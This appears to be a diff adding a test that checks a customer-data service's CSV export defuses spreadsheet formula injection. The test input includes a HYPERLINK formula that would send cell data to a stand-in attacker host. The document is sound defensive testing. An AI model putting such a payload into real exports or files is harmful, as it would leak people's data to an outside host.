@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 from urllib.parse import quote
 
@@ -269,3 +270,19 @@ def test_against_redis(redis_prefix):
     assert ids == members_of("Can't Lose Them", max_clv=2000) and snapshots == {manifest.snapshot_id}
     assert len(text.splitlines()) == 2501
     assert profile["churn"]["probability"] == 0.13 and profile["snapshot_id"] == manifest.snapshot_id
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path):
+    url = f"sqlite:///{tmp_path / 'formula.sqlite'}"
+    attack = '=HYPERLINK("http://attacker.example/?d="&A2,"UK")'
+    profiles = [dataclasses.replace(hand_made_profile(1), customer_id="@SUM(1+1)", country=attack),
+                dataclasses.replace(hand_made_profile(2), customer_id="-c2", country="UK")]
+    store = open_store(url, prefix="t")
+    publish_customers(store, profiles)
+    store.close()
+    with client_for(url) as client:
+        rows = list(csv.reader(io.StringIO(client.get("/v1/segments/all/export.csv").text)))
+    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert set(by_id) == {"'@SUM(1+1)", "'-c2"}
+    assert by_id["'@SUM(1+1)"]["country"] == "'" + attack and by_id["'-c2"]["country"] == "UK"
+    assert by_id["'-c2"]["reason_2_contribution"] == "-0.25"  # numbers keep their sign
